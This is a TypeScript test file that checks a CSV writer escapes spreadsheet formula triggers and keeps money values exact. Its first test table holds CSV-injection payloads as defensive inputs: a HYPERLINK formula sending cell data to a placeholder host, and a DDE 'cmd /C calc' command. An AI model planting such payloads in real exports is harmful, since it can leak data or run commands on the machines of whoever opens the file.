import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { formatFen } from '../../src/ledger/money.js';
import { csvCell, csvLine, isFormulaLike } from '../../src/render/csv-writer.js';
import { NASTY_TEXT, text } from './arbitraries.js';
import { NUM_RUNS, seed } from './fc-seed.js';

describe('csvCell text', () => {
  // bad-inputs.md I-4: each of these is written with a leading ' and quoted.
  it.each([
    ['=HYPERLINK("http://x?"&A1)', `"'=HYPERLINK(""http://x?""&A1)"`],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['\0x', `"'\0x"`],
    ['＝1', `"'＝1"`],
    ['＋1', `"'＋1"`],
    ['－1', `"'－1"`],
    ['＠1', `"'＠1"`],
    ['=1\nx', `"'=1\nx"`],
    [' =1', `"' =1"`],
    ['\u3000@x', `"'\u3000@x"`],
    ['=1+2";=1+2', `"'=1+2"";=1+2"`], // OWASP's own example
  ])('escapes %j', (cell, want) => {
    expect(csvCell(cell, 'text')).toBe(want);
  });

  it.each([
    ['plain', 'plain'],
    ['玫瑰保湿精华液 30ml', '玫瑰保湿精华液 30ml'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\ronly', '"cr\ronly"'],
    [' lead', '" lead"'],
    ['trail ', '"trail "'],
    ['a-b=c', 'a-b=c'], // a trigger only counts at the start
    ["'quoted", "'quoted"],
    ['', ''],
  ])('writes %j as %j', (cell, want) => {
    expect(csvCell(cell, 'text')).toBe(want);
  });

  it('writes null as an empty cell, whatever the kind', () => {
    expect(csvCell(null, 'text')).toBe('');
    expect(csvCell(null, 'number')).toBe('');
  });
});

describe('csvCell number', () => {
  it.each([
    ['-12.50', '-12.50'],
    ['0.1234', '0.1234'],
    ['-0.0500', '-0.0500'],
    ['1234.56', '1234.56'],
    [42, '42'],
    [0, '0'],
  ])('writes our number %j bare: %j', (value, want) => {
    expect(csvCell(value, 'number')).toBe(want);
  });

  it.each(['=1', '1e5', '1,234.50', ' 1', '', 'NaN'])('refuses %j as a number', (value) => {
    expect(() => csvCell(value, 'number')).toThrow(TypeError);
  });

  it.each([1.5, Number.NaN, Infinity, 2 ** 60])('refuses the JS number %d', (value) => {
    expect(() => csvCell(value, 'number')).toThrow(TypeError);
  });
});

it('ends each line with \\n', () => {
  expect(csvLine(['a', '"b,c"', ''])).toBe('a,"b,c",\n');
});

it.each(NASTY_TEXT)('round-trips %j through csv-parse (bad-inputs.md I-5)', (cell) => {
  const [[got]] = parse(csvLine([csvCell(cell, 'text')])) as string[][] as [[string]];
  expect(got).toBe(isFormulaLike(cell) ? `'${cell}` : cell);
});

describe('properties', () => {
  const grid = fc
    .integer({ min: 1, max: 6 })
    .chain((cols) =>
      fc.array(fc.array(text, { minLength: cols, maxLength: cols }), { minLength: 1, maxLength: 8 }),
    );

  it('csv-parse reads back every cell, with our prefix exactly where a formula could start', () => {
    fc.assert(
      fc.property(grid, (rows) => {
        const out = rows.map((r) => csvLine(r.map((c) => csvCell(c, 'text')))).join('');
        const parsed = parse(out) as string[][];
        expect(parsed).toHaveLength(rows.length);
        parsed.forEach((record, i) => {
          record.forEach((got, j) => {
            const cell = rows[i]?.[j] ?? '';
            const escaped = isFormulaLike(cell);
            expect(got).toBe(escaped ? `'${cell}` : cell);
            // What a spreadsheet sees never starts a formula, even behind whitespace.
            expect(isFormulaLike(got)).toBe(false);
          });
        });
      }),
      { seed, numRuns: NUM_RUNS },
    );
  });

  it('our money and ratio numbers stay bare numbers and read back exactly', () => {
    const money = fc.integer({ min: Number.MIN_SAFE_INTEGER, max: Number.MAX_SAFE_INTEGER });
    const ratio = fc.stringMatching(/^-?\d{1,6}\.\d{4}$/);
    fc.assert(
      fc.property(money, ratio, fc.nat(), (fen, r, count) => {
        const cells = [csvCell(formatFen(fen), 'number'), csvCell(r, 'number'), csvCell(count, 'number')];
        expect(cells).toEqual([formatFen(fen), r, String(count)]);
        const [[m, q, n]] = parse(csvLine(cells)) as [[string, string, string]];
        expect(m).toMatch(/^-?\d+\.\d{2}$/);
        expect(BigInt(m.replace('.', ''))).toBe(BigInt(fen));
        expect(q).toBe(r);
        expect(Number(n)).toBe(count);
      }),
      { seed, numRuns: NUM_RUNS },
    );
  });
});
